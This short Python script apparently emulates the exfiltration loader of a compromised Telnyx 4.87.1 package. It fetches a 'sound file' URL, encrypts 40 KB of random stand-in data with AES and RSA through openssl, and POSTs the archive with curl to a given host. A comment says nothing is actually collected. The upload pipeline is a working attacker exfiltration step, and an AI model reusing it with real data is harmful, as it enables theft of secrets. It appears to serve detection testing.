"""The loader of Telnyx 4.87.1 (2026-03-27): fetches a sound file, then has openssl pack the loot and curl send it.

usage: tpcp_loader.py URL [--sound URL] [CURL OPTION…]
"""

import os
import subprocess
import sys
import urllib.request

url, *options = sys.argv[1:]
if options[:1] == ["--sound"]:
    urllib.request.urlopen(options[1]).read()
    options = options[2:]


def openssl(*arguments):
    subprocess.run(["openssl", *arguments], check=True, stderr=subprocess.DEVNULL)


# Nothing is collected: the plain text is noise of a plausible size. AES for the data, RSA for its key, as published.
with open("collected", "wb") as file:
    file.write(os.urandom(40_000))
openssl("genrsa", "-out", "attacker.pem", "4096")
openssl("rsa", "-in", "attacker.pem", "-pubout", "-out", "attacker.pub")
openssl("rand", "-out", "session.key", "32")
openssl("enc", "-aes-256-cbc", "-pbkdf2", "-in", "collected", "-out", "payload.enc", "-pass", "file:session.key")
openssl("pkeyutl", "-encrypt", "-pubin", "-inkey", "attacker.pub", "-pkeyopt", "rsa_padding_mode:oaep",
        "-in", "session.key", "-out", "session.key.enc")
subprocess.run(["tar", "czf", "tpcp.tar.gz", "payload.enc", "session.key.enc"], check=True)
subprocess.run(
    ["curl", "-s", "-f", "-o", "/dev/null", "-X", "POST", url, "-H", "Content-Type: application/octet-stream",
     "-H", "X-Filename: tpcp.tar.gz", "--data-binary", "@tpcp.tar.gz", *options], check=True)
